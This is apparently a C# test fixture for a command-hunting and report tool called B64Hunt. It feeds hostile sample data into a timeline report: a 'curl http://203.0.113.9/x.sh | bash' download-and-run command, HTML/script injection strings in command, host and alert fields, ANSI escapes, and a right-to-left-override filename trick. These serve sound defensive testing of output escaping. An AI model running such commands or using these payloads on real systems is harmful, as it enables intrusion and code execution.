using System.Collections.Generic;
using B64Hunt.Model;
using B64Hunt.Reports;
using B64Hunt.Scoring;
using static B64Hunt.Tests.Scoring.Fixture;

namespace B64Hunt.Tests.Reports
{
    /// <summary>A small hunt with a hostile decoded command, host name and alert name.</summary>
    internal static class ReportFixture
    {
        public const string Payload = "echo '</script><img src=x onerror=alert(1)>' \"quoted\" & more";
        public const string HostilHost = "evil<img src=x onerror=alert(2)>";

        public static TimelineLayout Layout(int top = 0)
        {
            var events = new List<CommandEvent>
            {
                Event("curl http://203.0.113.9/x.sh | bash", "web1", 30, Ti("OTX", "203.0.113.9", TiSeverity.High)),
                Event("whoami", "web1", 10),
                Event("whoami", "web2", 50),
                Event(Payload + "\nline two \u001b[31mred\u202Egnp.exe", "db1.contoso.com", 200),
                Event("uname -a", HostilHost, 120),
            };
            var alerts = new[]
            {
                Alert("web1.contoso.com", "Suspicious download", "High", 35),
                Alert("db1", "<b>bold</b> alert", "Low", 190),
            };
            var scores = CommandScorer.Score(events, alerts).Scores;
            return TimelineLayout.Build(scores, alerts, top);
        }
    }
}
